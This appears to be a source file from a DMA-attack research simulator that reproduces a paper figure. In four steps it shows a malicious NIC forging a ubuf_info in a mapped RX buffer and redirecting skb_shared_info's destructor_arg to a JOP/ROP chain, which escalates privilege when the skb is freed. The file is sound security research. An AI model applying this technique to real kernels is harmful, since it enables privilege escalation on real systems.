@@ -1,0 +1,70 @@
+// Figure 4: using skb_shared_info to execute arbitrary code, step by step.
+// (a) RX buffer mapped WRITE for the NIC; (b) NIC overwrites destructor_arg
+// to point at a ubuf_info it fabricated inside the same page; (c) that
+// ubuf_info's callback points at the JOP pivot, with the ROP stack adjacent;
+// (d) when the skb is released the kernel calls the callback.
+
+#include <cstdio>
+#include <vector>
+
+#include "attack/kaslr_break.h"
+#include "attack/mini_cpu.h"
+#include "attack/poison.h"
+#include "core/machine.h"
+#include "device/device_port.h"
+#include "net/skbuff.h"
+
+using namespace spv;
+
+int main() {
+  std::printf("== Figure 4: skb_shared_info code execution, 4 steps ==\n\n");
+  core::MachineConfig config;
+  config.seed = 4;
+  core::Machine machine{config};
+  const DeviceId nic{1};
+  machine.iommu().AttachDevice(nic);
+  device::DevicePort port{machine.iommu(), nic};
+  attack::MiniCpu cpu{machine.kmem(), machine.layout()};
+
+  // (a) RX sk_buff + data buffer, mapped WRITE for the whole page.
+  machine.frag_pool(CpuId{0});
+  net::SkBuffPtr skb = std::move(*machine.skb_alloc().NetdevAllocSkb(CpuId{0}, 1500, "rx_alloc"));
+  Iova iova = *machine.dma().MapSingle(nic, skb->head, skb->truesize,
+                                       dma::DmaDirection::kFromDevice, "fig4_map");
+  std::printf("(a) RX buffer at KVA 0x%llx mapped WRITE, shared_info at +%llu\n",
+              static_cast<unsigned long long>(skb->head.value),
+              static_cast<unsigned long long>(skb->shared_info() - skb->head));
+
+  // (b)+(c) The NIC writes a ubuf_info + ROP stack into the page and points
+  // destructor_arg at it. (For the figure we grant the device the KVA; the
+  // compound attacks show how it is *obtained*.)
+  attack::KaslrKnowledge knowledge;
+  knowledge.text_base = machine.layout().text_base();
+  const uint64_t poison_off = 256;  // inside the data area
+  const uint64_t poison_kva = (skb->head + poison_off).value;
+  auto image = *attack::BuildPoisonImage(knowledge, poison_kva);
+  (void)port.Write(iova + poison_off, image);
+  std::printf("(b) NIC wrote a fabricated ubuf_info at page offset %llu\n",
+              static_cast<unsigned long long>((skb->head + poison_off).page_offset()));
+  uint64_t arg = poison_kva;
+  std::vector<uint8_t> arg_bytes(8);
+  std::memcpy(arg_bytes.data(), &arg, 8);
+  (void)port.Write(iova + (skb->shared_info() - skb->head) +
+                       net::SharedInfoLayout::kDestructorArg,
+                   arg_bytes);
+  std::printf("(c) destructor_arg -> 0x%llx; ubuf.callback -> JOP pivot; ROP stack "
+              "adjacent\n",
+              static_cast<unsigned long long>(poison_kva));
+
+  // (d) the kernel releases the skb.
+  (void)machine.skb_alloc().FreeSkb(std::move(skb), &cpu);
+  std::printf("(d) sk_buff released -> callback invoked\n\n");
+
+  std::printf("CPU trace:\n");
+  for (const auto& entry : cpu.trace()) {
+    std::printf("  0x%llx  %s\n", static_cast<unsigned long long>(entry.pc.value),
+                entry.what.c_str());
+  }
+  std::printf("\nprivilege escalated: %s\n", cpu.privilege_escalated() ? "YES" : "no");
+  return cpu.privilege_escalated() ? 0 : 1;
+}
